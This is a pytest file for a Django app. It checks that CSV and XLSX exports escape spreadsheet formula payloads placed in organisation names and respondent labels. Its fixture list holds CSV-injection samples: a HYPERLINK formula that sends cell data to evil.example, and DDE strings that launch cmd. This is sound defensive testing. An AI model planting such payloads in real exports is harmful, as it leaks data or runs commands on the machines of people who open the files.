"""Formula payloads in names and labels are neutralised in the CSV and Excel
exports."""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from ..conftest import answer_all, make_respondent
from .helpers import _login

pytestmark = pytest.mark.django_db


FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def formulas(world):
    assessment = world["assessment"]
    organisations = list(world["partnership"].organisations.all())
    organisations[0].name = FORMULAS[0]
    organisations[0].save()
    organisations[1].name = FORMULAS[1]
    organisations[1].save()
    for number, formula in enumerate(FORMULAS):
        respondent = make_respondent(assessment, label=f"{formula} #{number}")
        answer_all(respondent, value=2)
    return world


def _is_formula(text):
    return isinstance(text, str) and text[:1] in ("=", "+", "-", "@", "\t", "\r")


def test_csv_export_neutralises_formulas(client, formulas, owner):
    _login(client, owner)
    url = reverse(
        "assessments:assessment-export", args=[formulas["assessment"].pk, "csv"]
    )
    response = client.get(url)
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if _is_formula(cell)]
    assert any(cell.startswith("'=HYPERLINK") for cell in cells)


def test_xlsx_export_neutralises_formulas(client, formulas, owner):
    _login(client, owner)
    url = reverse(
        "assessments:assessment-export", args=[formulas["assessment"].pk, "xlsx"]
    )
    response = client.get(url)
    assert response.status_code == 200
    workbook = load_workbook(io.BytesIO(response.content))
    cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]
    assert cells
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert not [cell.value for cell in cells if _is_formula(cell.value)]
